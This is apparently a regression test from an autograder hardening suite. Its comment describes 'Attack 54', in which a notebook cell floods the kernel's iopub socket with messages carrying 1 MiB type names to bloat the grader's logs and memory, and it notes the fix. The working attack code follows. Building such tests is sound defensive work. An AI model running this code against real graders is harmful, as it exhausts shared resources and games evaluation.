# Attack 54, kernel messages of a type nobody handles, each logged by the grader in full: a cell of
# its own sends, on the kernel's own iopub socket and session, 60 messages whose msg_type is a
# 1 MiB string. None is output (not counted against the output budget, not a comm): nbclient
# logged "unhandled iopub msg: <msg_type>" at ERROR, into nbgrader's captured log and the
# submission's log on the driver (a gigabyte and 2 GiB of the driver's memory, with 100 types of
# non-printing characters). The executor now drops every type it does not handle before
# nbclient reads it, and a submission's log is kept to MAX_LOG_CHARS.
# Why: full marks: the honest equivalent is the solution.
# ruff: noqa
# fmt: off
### AFTER wrap_up
import time as _ti
_k = get_ipython().kernel
_parent = _k.get_parent("shell") if hasattr(_k, "get_parent") else _k._parent_header
_name = "lab3-unknown-" + "Z" * (2**20)
_n = 0
for _i in range(60):
    _k.session.send(_k.iopub_socket, _name + str(_i), content={}, parent=_parent)
    _n += 1
    if _i % 10 == 9:
        _ti.sleep(0.3)
_ti.sleep(2)
print("ATTACK log_unknown_msg_type: sent", _n)
